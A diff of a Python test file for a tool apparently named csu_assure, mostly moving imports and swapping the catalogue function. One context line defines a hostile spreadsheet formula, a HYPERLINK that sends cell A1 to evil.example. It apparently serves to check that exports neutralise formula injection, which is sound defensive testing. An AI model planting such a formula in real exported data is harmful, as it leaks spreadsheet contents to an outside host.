@@ -11,12 +11,13 @@ import pytest
 from openpyxl import load_workbook
 from typer.testing import CliRunner
 
+from checks import catalogue as shipped_catalogue
+from cli import app
 from csu_assure.calendar import load_calendar
-from csu_assure.catalogue import default_catalogue
-from csu_assure.cli import app
 from csu_assure.domain import Domain
 from csu_assure.engine import assess
-from csu_assure.export import (
+from csu_assure.register import Register
+from csu_assure.render.records import (
     ASSESSMENT_COLUMNS,
     FORMULA_TRIGGERS,
     RESULT_COLUMNS,
@@ -27,7 +28,6 @@ from csu_assure.export import (
     read_json,
     write_csv,
 )
-from csu_assure.register import Register
 from csu_assure.results import Assessment
 from csu_assure.ruleset import load_ruleset
 from csu_assure.synthetic import baseline, to_submission
@@ -37,7 +37,7 @@ HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 
 
 def _assess(csu_id: str, csu_name: str, checkpoint: int = 2) -> Assessment:
-    catalogue = default_catalogue()
+    catalogue = shipped_catalogue()
     return assess(
         to_submission(baseline(csu_id=csu_id, csu_name=csu_name, checkpoint=checkpoint)),
         catalogue=catalogue,
